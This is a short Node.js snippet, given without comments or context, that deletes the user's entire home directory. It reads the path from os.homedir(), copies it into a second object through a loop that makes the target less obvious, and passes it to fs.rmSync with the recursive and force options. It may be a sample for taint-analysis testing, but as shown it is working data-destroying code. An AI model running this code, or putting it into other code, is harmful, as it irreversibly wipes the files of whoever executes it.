const fs = require('fs');
const os = require('os');
const src = { root: os.homedir() };
const dst = {};
for (const k in src) dst[k] = src[k];
fs.rmSync(dst.root, { recursive: true, force: true });
